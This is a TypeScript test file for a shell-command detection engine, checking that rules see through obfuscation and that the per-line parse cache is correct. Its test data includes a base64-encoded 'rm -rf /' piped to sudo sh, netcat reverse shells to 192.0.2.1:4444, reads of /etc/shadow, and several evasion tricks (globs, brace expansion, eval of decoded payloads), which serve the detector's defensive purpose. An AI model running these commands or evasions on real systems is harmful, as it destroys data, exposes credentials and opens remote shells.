import { describe, expect, it } from 'vitest';
import { compileRuleSet } from './compile-rule-set';
import {
  clearLineFactsCache,
  EventFacts,
  factsRecord,
  LineMemoKey,
  lineFactsCacheSize,
} from './facts';
import { formatRuleProblems, loadRuleSet } from './load-rule-set';
import { commandEvent, ruleFile } from '../../../bench/support/rule-factory';
import { corpus, packFiles } from '../../../bench/corpus';
import { decodePayloads } from '../shell/decode-payloads';
import { parseCommandLine } from '../shell/parse-command-line';
import { LINE_CACHE_ENTRIES, LINE_CACHE_MAX_LENGTH } from './line-cache';

describe('EventFacts', () => {
  it('derives commandLine, commands, programs and decoded', () => {
    const facts = new EventFacts(
      commandEvent('echo cm0gLXJmIC8gLS1mb3JjZQ== | base64 -d | sudo sh; /bin/ls'),
    );
    expect(facts.get('commandLine')).toMatch(/^echo/);
    // `rm` is the decoded payload the shell reads on stdin (stdin-scripts.ts).
    expect(facts.get('programs')).toEqual(['echo', 'base64', 'sh', 'ls', 'rm']);
    expect(facts.get('decoded')).toEqual(['rm -rf / --force']);
    expect(facts.get('timestamp')).toBe('2026-01-15T12:00:00.000Z');
  });

  it('computes the parse once per event', () => {
    const facts = new EventFacts(commandEvent('rm -rf /'));
    expect(facts.get('commands')).toBe(facts.get('commands'));
  });

  it.each([
    ['user id 0', { user: { id: '0' } }, 'ls', true],
    ['user name root', { user: { name: 'root' } }, 'ls', true],
    ['effective root', { user: { name: 'bob', effective: { name: 'root' } } }, 'ls', true],
    ['sudo', {}, 'sudo ls', true],
    ['sudo -u root', {}, 'sudo -u root ls', true],
    ['sudo -u #0', {}, 'sudo -u "#0" ls', true],
    ['doas', {}, 'doas ls', true],
    ['su -c', {}, "su -c 'id'", true],
    ['sudo -u postgres', {}, 'sudo -u postgres psql', false],
    ['plain user', {}, 'ls', false],
  ])('isRoot: %s', (_name, overrides, line, expected) => {
    expect(new EventFacts(commandEvent(line, overrides)).get('isRoot')).toBe(expected);
  });

  it('never throws on an event without a string command line', () => {
    const facts = new EventFacts({ ...commandEvent('x'), process: {} as never });
    expect(facts.get('commands')).toEqual([]);
    expect(Object.keys(factsRecord(facts))).toHaveLength(15);
  });
});

describe('commands fact: rules see what bash would run (issue 21)', () => {
  const rule = (id: string, value: unknown) =>
    ruleFile({ id, conditions: { all: [{ fact: 'commands', operator: 'anyCommand', value }] } });
  const RULES = [
    rule('SW-TST-0001', { program: 'rm', hasFlags: ['r', 'f'], anyArg: '/var/log' }),
    rule('SW-TST-0002', { program: ['cat', 'head'], anyArg: '/etc/shadow' }),
    rule('SW-TST-0003', { program: 'wget', anyArg: { regex: '^http' } }),
    rule('SW-TST-0004', { program: 'nc', anyArg: '-e' }),
    rule('SW-TST-0005', { program: 'cat', anyArg: '/etc/passwd' }),
  ];
  const loaded = loadRuleSet(RULES);
  if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
  const withPrefilter = compileRuleSet(loaded.ruleSet);
  const without = compileRuleSet(loaded.ruleSet, { prefilter: false });
  const ids = (matches: { rule: { id: string } }[]): string[] => matches.map((m) => m.rule.id);

  it.each([
    ['{rm,-rf,/var/log}', ['SW-TST-0001']],
    ['{wget,http://x.example/a}', ['SW-TST-0003']],
    ['/bin/{c,}at /etc/passwd', ['SW-TST-0005']],
    [`echo 'rm -rf /var/log' | bash`, ['SW-TST-0001']],
    ['echo rm -rf /var/log | sh', ['SW-TST-0001']],
    [`printf '%s' 'cat /etc/shadow' | sh`, ['SW-TST-0002']],
    ['printf %s%s c at\\ /etc/shadow | sh', ['SW-TST-0002']],
    [`bash <<< 'id; cat /etc/shadow'`, ['SW-TST-0002']],
    ['sh <<< cat\\ /etc/shadow', ['SW-TST-0002']],
    [`sh <<<"$(echo 'nc -e /bin/sh 192.0.2.1 4444')"`, ['SW-TST-0004']],
    ['echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | bash', ['SW-TST-0002']],
    ['base64 -d <<< Y2F0IC9ldGMvc2hhZG93 | sudo sh', ['SW-TST-0002']],
    ['cat /etc/shado[w]', ['SW-TST-0002']],
    ['head -5 /e?c/sh*ow', ['SW-TST-0002']],
    ['/???/c?t /etc/passwd', ['SW-TST-0005']],
    ['$(echo rm) -rf /var/log', ['SW-TST-0001']],
    ['`printf rm` -rf /var/log', ['SW-TST-0001']],
    ['${x:-rm} -rf /var/log', ['SW-TST-0001']],
    ['$(echo rm -rf /var/log)', ['SW-TST-0001']],
    ['eval $(echo Y2F0IC9ldGMvc2hhZG93 | base64 -d)', ['SW-TST-0002']],
    ['a=rm; $a -rf /var/log', ['SW-TST-0001']],
    ['builtin exec -a sshd nc -e /bin/sh 192.0.2.1 4444', ['SW-TST-0004']],
    ['command -p cat /etc/passwd', ['SW-TST-0005']],
    // Not what bash would run: these stay unmatched.
    [`echo '{rm,-rf,/var/log}'`, []],
    [`cat '/etc/shado[w]'`, []],
    ['echo rm -rf /var/log | grep x', []],
    ['cat payload.txt | bash', []],
  ])('%s → %j', (line, expected) => {
    expect(ids(without.evaluate(commandEvent(line)))).toEqual(expected);
    expect(ids(withPrefilter.evaluate(commandEvent(line)))).toEqual(expected);
  });
});

describe('line facts shared between events of the same line (issue 25)', () => {
  const { malicious, benign } = corpus();
  const lines = [...malicious, ...benign];
  const users = [
    { name: 'alice', id: '1000' },
    { name: 'root', id: '0' },
    { name: 'bob', id: '1001' },
  ];

  /** The straightforward definition: every fact derived from the line from scratch. */
  function fromScratch(line: string, user: { name: string; id: string }): unknown {
    const commands = parseCommandLine(line);
    const roots = new Set(['root', '0', '#0']);
    return {
      commands,
      programs: [...new Set(commands.map((c) => c.program).filter((p) => p !== ''))],
      decoded: decodePayloads(line),
      isRoot:
        user.id === '0' ||
        user.name === 'root' ||
        commands.some((c) => c.elevated && (c.runAs === undefined || roots.has(c.runAs))),
    };
  }

  function derived(facts: EventFacts): unknown {
    return {
      commands: facts.commands,
      programs: facts.programs,
      decoded: facts.decoded,
      isRoot: facts.isRoot,
    };
  }

  it('gives every event of a line what a fresh parse gives, whoever runs it', () => {
    clearLineFactsCache();
    // Three sightings per line: the first is not kept, the second is, the third reads it.
    for (const user of users)
      for (const line of lines) {
        const facts = new EventFacts(commandEvent(line, { user }));
        expect([line, derived(facts)]).toEqual([line, fromScratch(line, user)]);
      }
    expect(lineFactsCacheSize()).toBeGreaterThan(0);
    expect(lineFactsCacheSize()).toBeLessThanOrEqual(LINE_CACHE_ENTRIES);
  });

  it('shares one parse between events of a line once the line repeats', () => {
    clearLineFactsCache();
    const first = new EventFacts(commandEvent('git status')).commands;
    const second = new EventFacts(commandEvent('git status')).commands;
    const third = new EventFacts(commandEvent('git status')).commands;
    expect(second).not.toBe(first);
    expect(third).toBe(second);
  });

  it('is not modified by evaluating rules and building matches over it', () => {
    const pack = packFiles();
    // Regexes unchecked: recheck's verdicts are beside the point here and slow on a busy machine.
    const loaded = loadRuleSet(pack.rules, pack.lists, { checkRegex: () => undefined });
    if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
    clearLineFactsCache();
    let matches = 0;
    for (let round = 0; round < 3; round++)
      for (const line of lines) matches += loaded.evaluator.evaluate(commandEvent(line)).length;
    expect(matches).toBeGreaterThan(0);
    for (const line of lines) {
      const facts = new EventFacts(commandEvent(line));
      expect([line, derived(facts)]).toEqual([line, fromScratch(line, users[0]!)]);
    }
  }, 120_000);
});

describe('EventFacts line memos (what a prefilter keeps per line)', () => {
  const at = (line: string): EventFacts => new EventFacts(commandEvent(line));

  it('keeps a value only for a line the cache keeps, and gives it to every later event', () => {
    clearLineFactsCache();
    const key = new LineMemoKey<string>();
    const first = at('uname -a');
    expect(first.keepsLine).toBe(false);
    first.keepForLine(key, 'first');
    expect(at('uname -a').lineMemo(key)).toBeUndefined();
    const second = at('uname -a');
    expect(second.keepsLine).toBe(true);
    second.keepForLine(key, 'kept');
    expect(at('uname -a').lineMemo(key)).toBe('kept');
    expect(at('uname -r').lineMemo(key)).toBeUndefined();
    const long = 'x'.repeat(LINE_CACHE_MAX_LENGTH + 1);
    at(long).keepForLine(key, 'long');
    at(long).keepForLine(key, 'long');
    expect(at(long).lineMemo(key)).toBeUndefined();
  });

  it('keeps one value per owner, forgets on request, and drops the oldest owners', () => {
    clearLineFactsCache();
    at('id');
    const keys = Array.from({ length: 6 }, () => new LineMemoKey<number>());
    keys.forEach((key, i) => at('id').keepForLine(key, i));
    // The first two owners were dropped for the last two; the others keep their values.
    expect(keys.map((key) => at('id').lineMemo(key))).toEqual([undefined, undefined, 2, 3, 4, 5]);
    at('id').keepForLine(keys[3]!, 30);
    expect(keys.map((key) => at('id').lineMemo(key))).toEqual([undefined, undefined, 2, 30, 4, 5]);
    keys[2]!.forget();
    expect(at('id').lineMemo(keys[2]!)).toBeUndefined();
    at('id').keepForLine(keys[2]!, 20);
    expect(keys.map((key) => at('id').lineMemo(key))).toEqual([undefined, undefined, 20, 30, 4, 5]);
  });
});
